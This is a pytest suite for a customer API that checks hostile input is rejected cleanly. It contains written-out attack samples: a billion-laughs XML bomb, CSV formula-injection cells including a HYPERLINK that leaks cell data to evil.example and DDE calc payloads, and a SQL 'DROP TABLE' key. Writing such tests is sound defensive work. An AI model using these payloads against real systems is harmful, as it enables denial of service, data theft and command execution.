"""Issue 9: hostile input. Oversized bodies (declared or chunked), NUL bytes, deep
nesting, huge strings, invalid UTF-8, formula cells in a CSV import, XML bombs: each gets
a clear 4xx problem, nothing is stored, and the server stays up. Never a 5xx."""

import json

import httpx
import pytest
from access_util import own_app
from conftest import assert_problem
from reliability_util import Server

TEN_MB = 10 * 1024 * 1024


def _count(client, url) -> int:
    r = client.get(f"{url}/count")
    assert r.status_code == 200, r.text
    return r.json()["count"]


def _up(client):
    assert client.get("/health").status_code == 200


def test_ten_megabyte_json_is_413(client, customers_url):
    body = json.dumps({"lastName": "x" * TEN_MB}).encode()
    assert_problem(client.post(customers_url, content=body, headers={"Content-Type": "application/json"}), 413)
    assert _count(client, customers_url) == 0
    _up(client)


def test_chunked_body_without_length_is_413(client, customers_url):
    def chunks():
        yield b'{"lastName": "'
        for _ in range(11):
            yield b"x" * (1024 * 1024)
        yield b'"}'

    r = client.post(customers_url, content=chunks(), headers={"Content-Type": "application/json"})
    assert_problem(r, 413)
    assert _count(client, customers_url) == 0


def test_limit_is_exact_and_configurable(database_url, client, customers_url):
    with own_app(database_url, max_body_bytes=200) as http:
        headers = {"Authorization": client.headers["Authorization"], "Content-Type": "application/json"}
        small = json.dumps({"lastName": "Virtanen", "notes": "n" * 100}).encode()
        assert http.post(customers_url, content=small, headers=headers).status_code == 201
        at_limit = json.dumps({"lastName": "Virtanen", "notes": ""}).encode()
        at_limit = at_limit.replace(b'""', b'"' + b"n" * (200 - len(at_limit)) + b'"')
        assert len(at_limit) == 200
        assert http.post(customers_url, content=at_limit, headers=headers).status_code == 201
        over = at_limit.replace(b'"n', b'"nn', 1)
        assert_problem(http.post(customers_url, content=over, headers=headers), 413)
        assert_problem(http.put(f"{customers_url}/1", content=over, headers=headers), 413)
        assert_problem(http.patch(f"{customers_url}/1", content=over, headers=headers), 413)
        # A GET with no body is not affected.
        assert http.get(customers_url, headers=headers).status_code == 200
    assert _count(client, customers_url) == 2


def test_nul_bytes_are_422_everywhere(client, customers_url):
    body = assert_problem(client.post(customers_url, json={"lastName": "\u0000"}), 422, "lastName")
    assert "control" in json.dumps(body)
    assert_problem(client.post(customers_url, json={"lastName": "Vir\u0000tanen"}), 422, "lastName")
    assert_problem(client.post(customers_url, json={"lastName": "x", "city": "a\x00"}), 422, "city")
    c = client.post(customers_url, json={"lastName": "Virtanen"}).json()
    url = f"{customers_url}/{c['customerNumber']}"
    assert_problem(client.patch(url, json={"firstName": "\x00"}), 422, "firstName")
    assert_problem(client.put(url, json={"lastName": "\x00"}), 422, "lastName")
    # A NUL in a query parameter: 400 naming it (PostgreSQL cannot compare text with it).
    assert_problem(client.get(customers_url, params={"$filter": "lastName eq '\x00'"}), 400, "$filter")
    assert_problem(client.get(customers_url, params={"searchWord": "\x00"}), 400)
    assert_problem(client.get(f"{customers_url}/lookup", params={"idNumber": "1\x00"}), 400)
    assert_problem(client.get(f"{customers_url}/%00"), 404)  # nothing is named with a NUL
    assert client.get(url).json()["lastName"] == "Virtanen"
    assert _count(client, customers_url) == 1


@pytest.mark.parametrize("depth", [200, 10_000, 200_000])
def test_deeply_nested_json_is_4xx(client, customers_url, depth):
    for body in (
        "[" * depth + "]" * depth,
        '{"lastName": ' + '{"a": ' * depth + "1" + "}" * depth + "}",
        '{"addresses": ' + "[" * depth + "]" * depth + "}",
    ):
        r = client.post(customers_url, content=body.encode(), headers={"Content-Type": "application/json"})
        assert r.status_code in (400, 413, 422), r.text[:300]
        assert_problem(r, r.status_code)
    assert _count(client, customers_url) == 0
    _up(client)


def test_huge_strings_are_422(client, customers_url):
    for field in ("lastName", "firstName", "notes", "email", "idNumber", "street", "customerGuid"):
        r = client.post(customers_url, json={"lastName": "Virtanen", field: "x" * 1_000_000})
        assert_problem(r, 422, field)
    r = client.post(customers_url, json={"lastName": "Virtanen", **{f"f{i}": i for i in range(50_000)}})
    assert r.status_code in (413, 422), r.text[:300]
    r = client.get(customers_url, params={"$filter": "lastName eq '" + "x" * 30_000 + "'"})
    assert r.status_code in (200, 400), r.text[:300]
    r = client.get(customers_url, params={"$filter": " or ".join(["lastName eq 'a'"] * 1500)})
    assert r.status_code in (200, 400), r.text[:300]
    r = client.get(customers_url, params={"$orderby": ",".join(["lastName"] * 3000)})
    assert r.status_code in (200, 400), r.text[:300]
    assert _count(client, customers_url) == 0


def test_invalid_utf8_is_400(client, customers_url):
    for raw in (
        b'{"lastName": "\xff\xfe"}',
        b'{"lastName": "\xc3"}',
        b"\xef\xbb\xbf\xff",
        b'{"lastName": "\xed\xa0\x80"}',
    ):
        r = client.post(customers_url, content=raw, headers={"Content-Type": "application/json"})
        assert_problem(r, r.status_code)
        assert r.status_code in (400, 422), r.text
    # Lone surrogates as JSON escapes are valid JSON but not text.
    r = client.post(customers_url, content=b'{"lastName": "\\ud800"}', headers={"Content-Type": "application/json"})
    assert_problem(r, 422, "lastName")
    # Invalid UTF-8 in the path and the query.
    r = client.get(f"{customers_url}/%FF%FE")
    assert r.status_code in (400, 404), r.text
    r = client.get(customers_url, params={"$filter": b"lastName eq '\xff'".decode("latin-1")})
    assert r.status_code in (200, 400), r.text
    r = client.get(f"{customers_url}?$filter=lastName%20eq%20%27%FF%27")
    assert r.status_code in (200, 400), r.text
    assert _count(client, customers_url) == 0


def test_wrong_content_types_are_4xx(client, customers_url):
    for ctype, raw in (
        ("text/plain", b'{"lastName": "x"}'),
        ("application/xml", b"<a/>"),
        ("application/x-www-form-urlencoded", b"lastName=x"),
        ("multipart/form-data; boundary=x", b"--x--"),
    ):
        r = client.post(customers_url, content=raw, headers={"Content-Type": ctype})
        assert 400 <= r.status_code < 500, (ctype, r.status_code, r.text)
    assert _count(client, customers_url) == 0


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]><customers><customer><lastName>&lol9;</lastName></customer></customers>"""


def test_billion_laughs_is_refused_wherever_a_body_is_read(client, customers_url):
    """No endpoint reads XML (export.xml only writes it): an XML bomb sent to any body-taking
    customer endpoint, import and export included, is a clear 4xx and expands nothing."""
    for method, path in (
        ("POST", customers_url),
        ("POST", f"{customers_url}/import"),
        ("POST", f"{customers_url}/export.xml"),
        ("DELETE", customers_url),
        ("POST", f"{customers_url}/search"),
    ):
        for ctype in ("application/xml", "text/xml", "application/json", "text/csv"):
            r = client.request(method, path, content=BILLION_LAUGHS, headers={"Content-Type": ctype})
            assert 400 <= r.status_code < 500, (method, path, ctype, r.status_code, r.text[:300])
            assert len(r.content) < 100_000
    assert _count(client, customers_url) == 0
    _up(client)


def test_csv_import_refuses_a_formula_cell(client, customers_url):
    """A cell a spreadsheet would run (=, +, -, @ first, not a number) that the export did
    not neutralize with a leading ' cannot be told from an attack: refused, nothing stored."""
    for cell in (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)",
        "@SUM(1)",
        "-2+3+cmd|' /C calc'!A0",
    ):
        csv = f'lastName,firstName\nVirtanen,Aino\n"{cell.replace(chr(34), chr(34) * 2)}",Matti\n'
        r = client.post(f"{customers_url}/import", content=csv.encode(), headers={"Content-Type": "text/csv"})
        assert_problem(r, 422)
        assert _count(client, customers_url) == 0, f"stored with {cell!r}"
    # The export's own neutralized form imports as the text it stands for.
    r = client.post(f"{customers_url}/import", content=b"lastName\n'=Virtanen\n", headers={"Content-Type": "text/csv"})
    assert r.status_code == 200, r.text
    assert client.get(f"{customers_url}/1").json()["lastName"] == "=Virtanen"


def test_live_server_survives_hostile_input(database_url, client, company, customers_url):
    """On a real uvicorn: a chunked 11 MB body, a declared 10 MB one, deep nesting and
    invalid UTF-8, then ordinary requests still work."""
    with Server(database_url, max_body_bytes=str(5 * 1024 * 1024)) as server, server.http() as http:

        def chunks():
            for _ in range(11):
                yield b"x" * (1024 * 1024)

        r = http.post(customers_url, content=chunks(), headers={"Content-Type": "application/json"})
        assert_problem(r, 413)
        body = b'{"lastName": "' + b"x" * TEN_MB + b'"}'
        try:
            r = http.post(customers_url, content=body, headers={"Content-Type": "application/json"})
            assert_problem(r, 413)
        except httpx.HTTPError:  # the server may close the connection once it has answered
            pass
        for raw in (b"[" * 100_000, b'{"lastName": "\xff"}', b'{"lastName": "\\u0000"}'):
            r = http.post(customers_url, content=raw, headers={"Content-Type": "application/json"})
            assert 400 <= r.status_code < 500, r.text[:200]
        assert http.get("/health").status_code == 200
        assert http.post(customers_url, json={"lastName": "Virtanen"}).status_code == 201
    assert _count(client, customers_url) == 1


@pytest.mark.parametrize(
    "key",
    ["²", "١٢", "9" * 30, "9223372036854775808", "-1", "1e5", "0x10", "%20", "1;DROP TABLE customers", "'", "\u202e1"],
)
def test_odd_customer_keys_are_404(client, customers_url, key):
    create = client.post(customers_url, json={"lastName": "Virtanen"})
    assert create.status_code == 201
    for method in ("GET", "PATCH", "PUT", "DELETE"):
        kwargs = {"json": {"lastName": "X"}} if method in ("PATCH", "PUT") else {}
        r = client.request(method, f"{customers_url}/{key}", **kwargs)
        assert r.status_code in (404, 405), (method, key, r.status_code, r.text[:200])
    r = client.request("DELETE", customers_url, json=[key, int(key) if key.isascii() and key.isdigit() else key])
    assert_problem(r, 404)
    r = client.get(f"{customers_url}/{key}/addresses")
    assert r.status_code == 404, r.text[:200]
    assert _count(client, customers_url) == 1
